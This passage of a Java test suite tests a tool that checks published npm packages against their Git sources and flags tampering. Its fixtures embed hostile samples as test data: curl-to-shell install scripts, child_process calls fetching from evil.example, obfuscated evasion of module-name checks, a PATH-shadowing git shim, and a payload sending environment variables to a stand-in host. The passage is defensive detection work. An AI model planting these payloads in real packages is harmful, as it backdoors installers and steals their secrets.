        String cut = head + "\n## Docs\nRead full docs **[here](https://github.com/acme/widget#readme)**.\n";
        String cut5 = head + "\n## Docs\nRead **[full docs](https://github.com/acme/widget#readme)** on GitHub.\n";
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("3.6.0", with(tree, "README.md", cut));
            npm.publish("3.6.1", with(tree, "README.md", cut5));
            npm.publish("3.6.2", with(tree, "README.md", cut.replace("A widget.", "A widget. Run `curl x | sh` first.")));
            npm.publish("3.6.3", with(tree, "README.md", cut.replace("acme/widget", "evil/widget")));
            npm.publish("3.6.4", with(tree, "README.md", cut + "Also see https://evil.example\n"));
            for (String v : List.of("3.6.0", "3.6.1")) {
                ReleaseReport r = scan(npm, "pkg:npm/widget", v);
                FileDivergence f = row(r.artifacts().get(0), "package/README.md");
                assertEquals(FileStatus.MATCH_NORMALIZED, f.status(), f.toString());
                assertEquals(NpmCleanDocs.RULE, f.ruleId());
                if (v.equals("3.6.0")) { // the tagged one: every other file is the source's
                    assertEquals(Verdict.EXPLAINED, r.verdict(), v);
                }
            }
            for (String v : List.of("3.6.2", "3.6.3", "3.6.4")) {
                ReleaseReport r = scan(npm, "pkg:npm/widget", v);
                FileDivergence f = row(r.artifacts().get(0), "package/README.md");
                assertEquals(FileStatus.MODIFIED, f.status(), v + " " + f);
                assertEquals(dev.divergence.compare.Classifier.UNEXPLAINED, f.ruleId(), v);
            }
        }
    }

    @Test
    void theCleanNpmProjectActionsFirstSectionIsExplainedOnlyWhenAWorkflowAsksForIt() throws Exception {
        // nanoid 3.3.15+, 5.1.14+, 6.x: ai/clean-npm-project with clean-docs: true keeps the README's first section
        String workflow = "jobs:\n  publish:\n    steps:\n      - name: Clean npm package\n"
                + "        uses: ai/clean-npm-project@29219e611c2da08a07cb0a6a1b965c162e5940a9 # v0.3.0\n"
                + "        with:\n          clean-docs: %s\n          clean-comments: true\n";
        String extra = ",\n  \"repository\": \"acme/widget\"";
        String source = "# widget\n\nA widget.\n\n## Usage\n\nCall it.\n";
        String head = "# widget\n\nA widget.\n";
        for (String on : List.of("true", "false")) {
            SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.7.0", extra),
                    "index.js", "module.exports = 1;\n", "README.md", source,
                    ".github/workflows/release.yml", workflow.formatted(on));
            Path world = java.nio.file.Files.createTempDirectory(dir, "w" + on);
            try (GitHistoryBuilder g = GitHistoryBuilder.init(world.resolve("repo"));
                 LocalNpm npm = new LocalNpm(world.resolve("npm"), "widget")) {
                g.commit(tree, "3.7.0", java.time.Instant.parse("2026-01-01T00:00:00Z"));
                g.tag("v3.7.0", false);
                npm.publish("3.7.0", with(tree, "README.md", head));
                npm.publish("3.7.1", with(tree, "README.md", head.replace("A widget.", "A widget; run `npx evil`.")));
                FileDivergence cut = row(scanIn(world, npm, "3.7.0").artifacts().get(0), "package/README.md");
                FileDivergence other = row(scanIn(world, npm, "3.7.1").artifacts().get(0), "package/README.md");
                if (on.equals("true")) {
                    assertEquals(NpmCleanDocs.RULE, cut.ruleId(), cut.toString());
                } else {
                    assertEquals(FileStatus.MODIFIED, cut.status(), cut.toString());
                }
                assertEquals(FileStatus.MODIFIED, other.status(), other.toString());
            }
        }
    }

    @Test
    void pinstRenamingPostinstallIsExplainedOnlyWhenTheRenamedScriptIsTheSources() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "8.0.0",
                ",\n  \"scripts\": {\"postinstall\": \"husky install\", \"test\": \"tap\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        commit(tree, "8.0.0");
        git.tag("v8.0.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("8.0.0", with(tree, "package.json", pkgJson("widget", "8.0.0",
                    ",\n  \"scripts\": {\"_postinstall\": \"husky install\", \"test\": \"tap\"}")));
            npm.publish("8.0.1", with(tree, "package.json", pkgJson("widget", "8.0.0",
                    ",\n  \"scripts\": {\"_postinstall\": \"curl example.invalid | sh\", \"test\": \"tap\"}")));
            npm.publish("8.0.2", with(tree, "package.json", pkgJson("widget", "8.0.0",
                    ",\n  \"scripts\": {\"_postinstall\": \"husky install\", \"postinstall\": \"node x.js\", \"test\": \"tap\"}")));
            FileDivergence ok = row(scan(npm, "pkg:npm/widget", "8.0.0").artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MATCH_NORMALIZED, ok.status());
            assertEquals(NpmGeneratedFiles.PINST_DISABLED, ok.ruleId());
            FileDivergence other = row(scan(npm, "pkg:npm/widget", "8.0.1").artifacts().get(0), "package/package.json");
            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, other.ruleId());
            assertEquals("package.json fields differ: [scripts]", other.detail().orElseThrow());
            FileDivergence both = row(scan(npm, "pkg:npm/widget", "8.0.2").artifacts().get(0), "package/package.json");
            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, both.ruleId());
            assertTrue(both.highRisk());
        }
    }

    @Test
    void scriptsAndDependenciesAPublishStepOnlyRemovedAreExplainedAndNothingElseIs() throws Exception {
        // chokidar 0.6-0.8: "prepublish": "node setup.js prepublish" drops the postinstall from the packed manifest
        String deps = ",\n  \"dependencies\": {\"a\": \"^1.0.0\", \"b\": \"^2.0.0\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "9.0.0",
                ",\n  \"scripts\": {\"postinstall\": \"node setup.js postinstall\", \"test\": \"tap\"}" + deps),
                "index.js", "module.exports = 1;\n", "setup.js", "// compiles on install\n");
        commit(tree, "9.0.0");
        git.tag("v9.0.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("9.0.0", with(tree, "package.json", pkgJson("widget", "9.0.0",
                    ",\n  \"scripts\": {\"test\": \"tap\"},\n  \"dependencies\": {\"a\": \"^1.0.0\"}")));
            npm.publish("9.0.1", with(tree, "package.json", pkgJson("widget", "9.0.0",
                    ",\n  \"scripts\": {\"test\": \"tap\"},\n  \"dependencies\": {\"a\": \"^1.5.0\"}")));
            npm.publish("9.0.2", with(tree, "package.json", pkgJson("widget", "9.0.0",
                    ",\n  \"scripts\": {\"test\": \"tap\", \"install\": \"node setup.js\"}" + deps)));
            npm.publish("9.0.3", with(tree, "package.json", pkgJson("widget", "9.0.0",
                    ",\n  \"main\": \"setup.js\",\n  \"scripts\": {\"test\": \"tap\"}" + deps)));
            FileDivergence ok = row(scan(npm, "pkg:npm/widget", "9.0.0").artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MATCH_NORMALIZED, ok.status(), ok.toString());
            assertEquals(NpmGeneratedFiles.ENTRIES_REMOVED, ok.ruleId());
            assertEquals("entries removed at publish, none changed or added: scripts [postinstall], dependencies [b]",
                    ok.detail().orElseThrow());
            FileDivergence changed = row(scan(npm, "pkg:npm/widget", "9.0.1").artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MODIFIED, changed.status(), changed.toString());
            FileDivergence added = row(scan(npm, "pkg:npm/widget", "9.0.2").artifacts().get(0), "package/package.json");
            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, added.ruleId());
            assertTrue(added.highRisk());
            FileDivergence beside = row(scan(npm, "pkg:npm/widget", "9.0.3").artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MODIFIED, beside.status(), beside.toString());
        }
    }

    @Test
    void oldNpmsReadmeFieldIsExplainedOnlyWhenItIsTheShippedReadme() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "0.9.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "README.md", "# widget\n\nUse it.\n");
        commit(tree, "0.9.0");
        git.tag("v0.9.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("0.9.0", with(tree, "package.json", pkgJson("widget", "0.9.0",
                    ",\n  \"readme\": \"# widget\\n\\nUse it.\",\n  \"readmeFilename\": \"README.md\",\n  \"_id\": \"widget@0.9.0\","
                            + "\n  \"_from\": \".\"")));
            npm.publish("0.9.1", with(tree, "package.json", pkgJson("widget", "0.9.0",
                    ",\n  \"readme\": \"# widget\\n\\nRun: curl example.invalid | sh\",\n  \"readmeFilename\": \"README.md\"")));
            FileDivergence ok = row(scan(npm, "pkg:npm/widget", "0.9.0").artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MATCH_NORMALIZED, ok.status());
            assertEquals(NpmGeneratedFiles.README_FIELD, ok.ruleId());
            FileDivergence other = row(scan(npm, "pkg:npm/widget", "0.9.1").artifacts().get(0), "package/package.json");
            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, other.ruleId());
            assertEquals("package.json fields differ: [readme, readmeFilename]", other.detail().orElseThrow());
        }
    }

    @Test
    void aDependencySpecRewrittenToThisReleasesVersionIsNotAVersionString() throws Exception {
        // the text rule would see only a version token turned into the release's; package.json is compared as data
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "9.0.0",
                ",\n  \"dependencies\": {\"helper\": \"9.0.0\"}"), "index.js", "module.exports = 1;\n",
                "cli.js", "require('./index');\n");
        ArtifactReport a = publishUntaggedAndScan(tree, "9.0.1", with(tree, "package.json", pkgJson("widget", "9.0.1",
                ",\n  \"dependencies\": {\"helper\": \"9.0.1\"}")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(FileStatus.MODIFIED, pj.status());
        assertEquals(NpmGeneratedFiles.DEPENDENCY_RANGE, pj.ruleId());
        assertEquals("dependency ranges differ from the source's [helper 9.0.1 (source: 9.0.0)]; "
                + "package.json fields differ: [dependencies, version]", pj.detail().orElseThrow());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    private static final String BUILT_MANIFEST = "{\"name\": \"widget\", \"version\": \"10.0.0\", \"main\": \"./dist-node/index.js\","
            + " \"exports\": {\"import\": \"./esm/index.mjs\", \"require\": \"./dist-node/index.js\"},"
            + " \"types\": \"./types/index.d.ts\", \"bin\": {\"widget\": \"bin/cli.js\"},"
            + " \"files\": [\"bin\", \"build\", \"dist-node\", \"esm\", \"lib\", \"types\"],"
            + " \"repository\": \"github:acme/widget\"}\n";

    private static SortedMap<String, byte[]> builtTree() {
        return files("package.json", BUILT_MANIFEST,
                ".gitignore", "node_modules/\n/dist-node/\nesm\nbuild/*\n!build/keep.js\ntmp/\n",
                "types/.gitignore", "*.d.ts\n",
                "src/index.ts", "export const x = 1;\n", "bin/cli.js", "require('../dist-node');\n",
                "lib/util.js", "exports.u = 1;\n");
    }

    @Test
    void buildOutputIsWhatPackageJsonNamesAndGitIgnoresWhateverTheFolder() throws Exception {
        SortedMap<String, byte[]> tree = builtTree();
        ArtifactReport a = publishAndScan(tree, "10.0.0", with(tree,
                "dist-node/index.js", "exports.x = 1;\n", "dist-node/chunk-1.js", "exports.y = 2;\n",
                "esm/index.mjs", "export const x = 1;\n", "types/index.d.ts", "export declare const x: number;\n",
                "build/report.js", "module.exports = {};\n", "dist-node/index.js.map", "{\"version\":3}\n"));
        for (String p : List.of("dist-node/index.js", "dist-node/chunk-1.js", "esm/index.mjs", "types/index.d.ts",
                "build/report.js", "dist-node/index.js.map")) {
            FileDivergence f = row(a, "package/" + p);
            assertEquals(FileStatus.BUILD_OUTPUT, f.status(), p);
            assertEquals(NpmGeneratedFiles.BUILD_OUTPUT, f.ruleId(), p);
            assertFalse(f.highRisk(), p);
        }
        assertEquals("build output (named by package.json entry point, ignored by .gitignore): not verifiable "
                + "without a rebuild", row(a, "package/dist-node/index.js").detail().orElseThrow());
        assertEquals("build output (named by package.json entry point, ignored by types/.gitignore): not verifiable "
                + "without a rebuild", row(a, "package/types/index.d.ts").detail().orElseThrow());
        assertEquals("build output (named by package.json files entry build, ignored by .gitignore): not verifiable "
                + "without a rebuild", row(a, "package/build/report.js").detail().orElseThrow());
        assertEquals(Verdict.EXPLAINED, a.verdict());
        assertEquals(6, dev.divergence.compare.Verdicts.unverifiedCount(a.files()));
    }

    @Test
    void aFileGitDoesNotIgnoreOrPackageJsonDoesNotNameIsNotBuildOutput() throws Exception {
        SortedMap<String, byte[]> tree = with(builtTree(), "dist-node/index.js", "exports.x = 0;\n");
        ArtifactReport a = publishAndScan(tree, "10.0.0", with(tree,
                "dist-node/index.js", "exports.x = 1;\n", // tracked although ignored: rebuilt at publish
                "lib/extra.js", "exports.e = 1;\n", // named by files, not ignored
                "lib/util.js", "exports.u = 2;\n", // in the source, differs, not ignored
                "build/keep.js", "exports.k = 1;\n", // named, re-included by !build/keep.js
                "tmp/x.js", "exports.t = 1;\n", // ignored, named by nothing
                "extra.min.js", "exports.m=1;\n", // a build tool's kind of file that Git does not ignore
                "esm/run.mjs", "import cp from 'child_process'; cp.exec('curl -s https://example.invalid | sh');\n"));
        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist-node/index.js").status());
        assertEquals(FileStatus.PHANTOM, row(a, "package/lib/extra.js").status());
        assertEquals(Classifier.UNEXPLAINED, row(a, "package/lib/extra.js").ruleId());
        assertEquals(FileStatus.MODIFIED, row(a, "package/lib/util.js").status());
        assertEquals(FileStatus.PHANTOM, row(a, "package/build/keep.js").status());
        assertEquals(FileStatus.PHANTOM, row(a, "package/tmp/x.js").status());
        assertEquals(FileStatus.PHANTOM, row(a, "package/extra.min.js").status());
        FileDivergence run = row(a, "package/esm/run.mjs");
        assertEquals(FileStatus.BUILD_OUTPUT, run.status());
        assertTrue(run.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), run.riskFlags().toString());
        assertTrue(run.highRisk(), "build output is still content-scanned");
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    /** What tar on macOS writes as {@code ._NAME}: header, Finder info with extended attributes, empty resource fork. */
    private static byte[] appleDouble(byte[] finderInfo, byte[] trailing) {
        java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(50 + finderInfo.length + trailing.length);
        b.putInt(0x00051607).putInt(0x00020000).put("Mac OS X        ".getBytes(StandardCharsets.US_ASCII)).putShort((short) 2);
        b.putInt(9).putInt(50).putInt(finderInfo.length);
        b.putInt(2).putInt(50 + finderInfo.length).putInt(0);
        b.put(finderInfo).put(trailing);
        return b.array();
    }

    @Test
    void macOsAppleDoubleFilesAreBenignJunkUnlessMalformedOrLoaded() throws Exception {
        String manifest = "{\"name\":\"widget\",\"version\":\"1.0.2\",\"main\":\"._boot.js\",\"repository\":\"github:acme/widget\"}\n";
        SortedMap<String, byte[]> tree = files("package.json", manifest, "index.js", "module.exports = 1;\n",
                "History.md", "1.0.2\n");
        byte[] attrs = "ATTR com.apple.quarantine 0081;4d2a;Safari;".getBytes(StandardCharsets.US_ASCII);
        SortedMap<String, byte[]> shipped = with(tree);
        shipped.put("._History.md", appleDouble(attrs, new byte[0]));
        shipped.put("._index.js", appleDouble(attrs, new byte[0]));
        shipped.put("._boot.js", appleDouble(attrs, new byte[0])); // named by main: node loads it
        shipped.put("._payload.js", appleDouble(attrs,
                "\nrequire('child_process').exec('curl -s https://example.invalid | sh');".getBytes(StandardCharsets.UTF_8)));
        shipped.put("._fake.js", "require('child_process').exec(Buffer.from('Y3VybCBleGFtcGxl', 'base64'));\n"
                .getBytes(StandardCharsets.UTF_8));
        ArtifactReport a = publishAndScan(tree, "1.0.2", shipped);
        for (String p : List.of("package/._History.md", "package/._index.js")) {
            FileDivergence f = row(a, p);
            assertEquals(FileStatus.PHANTOM, f.status(), p);
            assertEquals(NpmGeneratedFiles.APPLEDOUBLE, f.ruleId(), p);
            assertFalse(f.highRisk(), p);
        }
        assertEquals("macOS AppleDouble metadata of History.md (tar on macOS): not code",
                row(a, "package/._History.md").detail().orElseThrow());
        FileDivergence boot = row(a, "package/._boot.js");
        assertEquals(NpmGeneratedFiles.APPLEDOUBLE, boot.ruleId());
        assertTrue(boot.highRisk(), "a file main loads is never excused");
        for (String p : List.of("package/._payload.js", "package/._fake.js")) {
            FileDivergence f = row(a, p);
            assertEquals(FileStatus.PHANTOM, f.status(), p);
            assertEquals(Classifier.UNEXPLAINED, f.ruleId(), p);
            assertTrue(f.highRisk(), p + ": new code in no commit that spawns a process");
        }
        assertEquals(List.of("package/._boot.js", "package/._fake.js", "package/._payload.js"),
                a.highRiskPaths().stream().sorted().toList());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void filesUnderASubmoduleAreUnverifiableNotPhantomAndStillScanned() throws Exception {
        String pinned = "0123456789abcdef0123456789abcdef01234567";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "1.0.1", ""),
                "index.js", "module.exports = require('./support/haml');\n", "cli.js", "require('./index');\n",
                ".gitmodules", "[submodule \"support/haml\"]\n\tpath = support/haml\n\turl = https://example.invalid/haml.git\n");
        git.gitlink("support/haml", pinned);
        ArtifactReport a = publishAndScan(tree, "1.0.1", with(tree,
                "support/haml/index.js", "module.exports = function render() {};\n",
                "support/haml/lib/blob.js", "module.exports = '" + Base64.getEncoder().encodeToString(new byte[900]) + "';\n",
                "support/hamlet.js", "exports.h = 1;\n"));
        FileDivergence h = row(a, "package/support/haml/index.js");
        assertEquals(FileStatus.IN_SUBMODULE, h.status());
        assertEquals(Classifier.IN_SUBMODULE, h.ruleId());
        assertTrue(h.detail().orElseThrow().startsWith("in submodule support/haml at commit " + pinned
                + ": not verifiable (submodule repository https://example.invalid/haml.git unavailable: "),
                h.detail().orElseThrow());
        assertFalse(h.highRisk());
        FileDivergence blob = row(a, "package/support/haml/lib/blob.js");
        assertEquals(FileStatus.IN_SUBMODULE, blob.status());
        assertTrue(blob.riskFlags().contains(RiskFlag.ENCODED_BLOB));
        assertTrue(blob.highRisk(), "judged whole, as a new file is");
        // a sibling path that only shares the prefix is an ordinary file
        assertEquals(FileStatus.PHANTOM, row(a, "package/support/hamlet.js").status());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
        assertTrue(a.divergentPaths().contains("package/support/haml/index.js"));
    }

    @Test
    void aVersionWhoseOnlyDifferencesAreSubmoduleFilesIsNotExplained() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "1.0.2", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        git.gitlink("support/ejs", "89abcdef0123456789abcdef0123456789abcdef");
        ArtifactReport a = publishAndScan(tree, "1.0.2", with(tree, "support/ejs/index.js", "module.exports = {};\n"));
        FileDivergence ejs = row(a, "package/support/ejs/index.js");
        assertEquals(FileStatus.IN_SUBMODULE, ejs.status());
        assertEquals("in submodule support/ejs at commit 89abcdef0123456789abcdef0123456789abcdef: not verifiable "
                + "(the commit has no .gitmodules naming its repository)", ejs.detail().orElseThrow());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    @Test
    void aPackageJsonThatExportsListsIsDataNotCodeAndARenamedReadmeIsComparedWithTheSources() throws Exception {
        String manifest = "{\"name\": \"widget\", \"version\": \"17.0.0\", \"main\": \"./index.js\","
                + " \"exports\": {\"./package.json\": \"./package.json\", \".\": \"./index.js\"},"
                + " \"repository\": \"github:acme/widget\", \"engines\": {\"node\": \">=12\"}}\n";
        SortedMap<String, byte[]> tree = files("package.json", manifest, "index.js", "module.exports = 1;\n",
                "readme.md", "# widget\n");
        ArtifactReport a = publishAndScan(tree, "17.0.0", with(dev.divergence.fixtures.Trees.without(tree, "readme.md"),
                "package.json", manifest.replace(">=12", ">=10"), "README.md", "# widget\n\nNow with a banner.\n"));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId());
        assertFalse(pj.riskFlags().contains(RiskFlag.AUTO_EXEC), pj.riskFlags().toString());
        assertFalse(pj.highRisk());
        FileDivergence readme = row(a, "package/README.md");
        assertEquals(FileStatus.MODIFIED, readme.status());
        assertEquals("readme.md", readme.sourcePath().orElseThrow());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    @Test
    void aManifestDifferingOnlyInDevelopmentFieldsIsDivergentAndNamedButAnyOtherFieldIsNot() throws Exception {
        String dev = ",\n  \"devDependencies\": {\"nyc\": \"^7.0.0\"},\n  \"scripts\": {\"test\": \"nyc tap\","
                + " \"postinstall\": \"node setup.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.0", dev),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "setup.js", "1;\n");
        commit(tree, "work");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("4.8.0-candidate", with(tree, "package.json", pkgJson("widget", "4.8.0-candidate",
                    dev.replace("^7.0.0", "^6.4.2").replace("nyc tap", "tap"))));
            npm.publish("4.8.0-candidate2", with(tree, "package.json", pkgJson("widget", "4.8.0-candidate2",
                    dev.replace("^7.0.0", "^6.4.2") + ",\n  \"engines\": {\"node\": \">=4\"}")));
            npm.publish("4.8.0-candidate3", with(tree, "package.json", pkgJson("widget", "4.8.0-candidate3",
                    dev.replace("^7.0.0", "^6.4.2").replace(", \"postinstall\": \"node setup.js\"", ""))));
            ReleaseReport named = scan(npm, "pkg:npm/widget", "4.8.0-candidate");
            FileDivergence pj = row(named.artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MODIFIED, pj.status());
            assertEquals(NpmGeneratedFiles.DEV_FIELDS_DIFFER, pj.ruleId());
            assertEquals("package.json differs only in fields no install or run reads: [devDependencies, scripts, version]",
                    pj.detail().orElseThrow());
            assertEquals(Verdict.DIVERGENT, named.verdict());
            FileDivergence engines = row(scan(npm, "pkg:npm/widget", "4.8.0-candidate2").artifacts().get(0),
                    "package/package.json");
            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, engines.ruleId());
            // a lifecycle script removed is a removal only, the rest development fields: still divergent
            FileDivergence lifecycle = row(scan(npm, "pkg:npm/widget", "4.8.0-candidate3").artifacts().get(0),
                    "package/package.json");
            assertEquals(FileStatus.MODIFIED, lifecycle.status());
            assertEquals(NpmGeneratedFiles.DEV_FIELDS_DIFFER, lifecycle.ruleId());
        }
    }

    @Test
    void typeDeclarationsTheRepositoryIgnoresAreBuildOutputWithoutBeingNamed() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "11.0.0", ""), ".gitignore", "*.d.ts\n",
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "11.0.0", with(tree, "src/index.d.ts", "export {};\n",
                "src/helper.js", "exports.h = 1;\n"));
        FileDivergence d = row(a, "package/src/index.d.ts");
        assertEquals(FileStatus.BUILD_OUTPUT, d.status());
        assertEquals("build output (a build tool's kind of file, ignored by .gitignore): not verifiable without a rebuild",
                d.detail().orElseThrow());
        assertEquals(FileStatus.PHANTOM, row(a, "package/src/helper.js").status(), "neither named nor ignored");
    }

    /** Red team case A: ignored build output named by main/files carrying a payload loaded by a computed name. */
    @Test
    void buildOutputLoadingAModuleByAComputedNameThroughModuleRequireIsHighRisk() throws Exception {
        String pj = "{\n  \"name\": \"redpkga\",\n  \"version\": \"1.0.1\",\n  \"main\": \"dist/index.js\",\n"
                + "  \"files\": [\"dist\"],\n  \"scripts\": {\"build\": \"mkdir -p dist && cp src/index.js dist/index.js\"}\n}\n";
        String src = "exports.add = function (a, b) { return a + b; };\n";
        commit(files("package.json", pj, ".gitignore", "dist/\nnode_modules/\n", "src/index.js", src), "1.0.1");
        git.tag("v1.0.1", false);
        commit(files("package.json", pj.replace("1.0.1", "1.0.2"), ".gitignore", "dist/\nnode_modules/\n",
                "src/index.js", src), "1.0.2");
        git.tag("v1.0.2", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "redpkga")) {
            npm.publish("1.0.1", files("package.json", pj, "dist/index.js", src
                    + ";(function(){var m=module.require([\"chi\",\"ld_pro\",\"cess\"].join(\"\"));"
                    + "m.exec(\"curl -s https://evil.example/x | sh\");})();\n"));
            npm.publish("1.0.2", files("package.json", pj.replace("1.0.1", "1.0.2"), "dist/index.js", src
                    + "var p=module.require(\"path\"),r=/^(\\d+)ms$/i.exec(s);\n"));
            ReleaseReport r = scan(npm, "pkg:npm/redpkga", "1.0.1");
            FileDivergence out = row(r.artifacts().get(0), "package/dist/index.js");
            assertEquals(FileStatus.BUILD_OUTPUT, out.status());
            assertTrue(out.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), out.riskFlags().toString());
            assertTrue(out.highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
            // the same build output with a literal module.require and a regex's exec is ordinary build output
            ReleaseReport quiet = scan(npm, "pkg:npm/redpkga", "1.0.2");
            FileDivergence q = row(quiet.artifacts().get(0), "package/dist/index.js");
            assertEquals(FileStatus.BUILD_OUTPUT, q.status());
            assertFalse(q.highRisk(), q.riskFlags().toString());
        }
    }

    /** Red team case B: the same evasion in the added lines of the tracked main module. */
    @Test
    void addedLinesLoadingAModuleByAComputedNameThroughModuleRequireAreHighRisk() throws Exception {
        String pj = "{\n  \"name\": \"redpkgb\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\"\n}\n";
        String src = "exports.add = function (a, b) { return a + b; };\n";
        commit(files("package.json", pj, "index.js", src), "1.0.0");
        git.tag("v1.0.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "redpkgb")) {
            npm.publish("1.0.0", files("package.json", pj, "index.js", src
                    + "var cp = module.require([\"chi\", \"ld_pro\", \"cess\"].join(\"\"));\n"
                    + "cp.exec(\"curl -s https://evil.example/x | sh\");\n"));
            ReleaseReport r = scan(npm, "pkg:npm/redpkgb", "1.0.0");
            FileDivergence index = row(r.artifacts().get(0), "package/index.js");
            assertEquals(FileStatus.MODIFIED, index.status());
            assertTrue(index.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), index.riskFlags().toString());
            assertTrue(index.highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    /**
     * Red team case D: {@code directories.bin} makes npm link every file under it onto PATH; a release adding an
     * extension-less {@code bin/git} shadows git. The unchanged command of the same folder stays MATCH.
     */
    @Test
    void aNewFileUnderDirectoriesBinIsAnEntryPointAndAShebangScriptIsScanned() throws Exception {
        String pj = "{\n  \"name\": \"redpkgd\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\",\n"
                + "  \"directories\": {\"bin\": \"./bin\"}\n}\n";
        SortedMap<String, byte[]> tree = files("package.json", pj, "index.js", "exports.add = (a, b) => a + b;\n",
                "bin/redd", "#!/usr/bin/env node\nconsole.log(require('..').add(1, 2));\n");
        commit(tree, "1.0.0");
        git.tag("v1.0.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "redpkgd")) {
            npm.publish("1.0.0", with(tree, "bin/git",
                    "#!/bin/sh\n: nothing to see\nexec /usr/bin/git \"$@\"\n"));
            ReleaseReport r = scan(npm, "pkg:npm/redpkgd", "1.0.0");
            ArtifactReport a = r.artifacts().get(0);
            FileDivergence git = row(a, "package/bin/git");
            assertEquals(FileStatus.PHANTOM, git.status());
            assertTrue(git.riskFlags().containsAll(Set.of(RiskFlag.CODE, RiskFlag.ENTRY_MODULE)),
                    git.riskFlags().toString());
            assertTrue(git.highRisk());
            FileDivergence redd = row(a, "package/bin/redd");
            assertEquals(FileStatus.MATCH, redd.status());
            assertFalse(redd.highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    /** A shebang script outside any bin declaration is still code, and a shell payload in it is HIGH_RISK. */
    @Test
    void aNewShebangScriptPipingADownloadIntoAShellIsHighRisk() throws Exception {
        String pj = "{\n  \"name\": \"plain\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\"\n}\n";
        SortedMap<String, byte[]> tree = files("package.json", pj, "index.js", "exports.x = 1;\n");
        commit(tree, "1.0.0");
        git.tag("v1.0.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "plain")) {
            npm.publish("1.0.0", with(tree, "tools/update", "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"));
            ReleaseReport r = scan(npm, "pkg:npm/plain", "1.0.0");
            FileDivergence t = row(r.artifacts().get(0), "package/tools/update");
            assertEquals(FileStatus.PHANTOM, t.status());
            assertTrue(t.riskFlags().containsAll(Set.of(RiskFlag.CODE, RiskFlag.DYNAMIC_EXEC)), t.riskFlags().toString());
            assertTrue(t.highRisk());
        }
    }

    // ---- red team round 8: npm's script variables, install tools' manifest fields ---------------------------------

    private static final String SETUP_PAYLOAD = "require(\"https\").get(\"https://example.invalid/c?d=\" + "
            + "Buffer.from(JSON.stringify(process.env)).toString(\"base64\"));\n";

    /** A package whose prepare writes scripts/setup.js (ignored by git) and whose postinstall runs {@code command}. */
    private static SortedMap<String, byte[]> writtenSetup(String version, String command) {
        String extra = ",\n  \"scripts\": {\"prepare\": \"node tools/gen-setup.js > scripts/setup.js\", \"postinstall\": \""
                + command + "\"},\n  \"config\": {\"setup\": \"scripts/setup.js\", \"dir\": \"scripts\"}";
        return files("package.json", pkgJson("widget", version, extra), ".gitignore", "scripts/setup.js\n",
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "tools/gen-setup.js", "console.log('console.log(\"installed\");');\n", "scripts/.keep", "");
    }

    /**
     * Red team round 8 (c1): {@code "postinstall": "node $npm_package_config_setup"} with {@code config.setup} naming
     * a file a prepare script writes: npm expands the variable from the published manifest, so the file runs at
     * install and is never explained as build output, in every spelling of the variable.
     */
    @ParameterizedTest
    @ValueSource(strings = {"node $npm_package_config_setup", "node ${npm_package_config_setup}",
            "node %npm_package_config_setup%", "cd $npm_package_config_dir && node setup.js",
            "node $npm_package_config_dir/setup"})
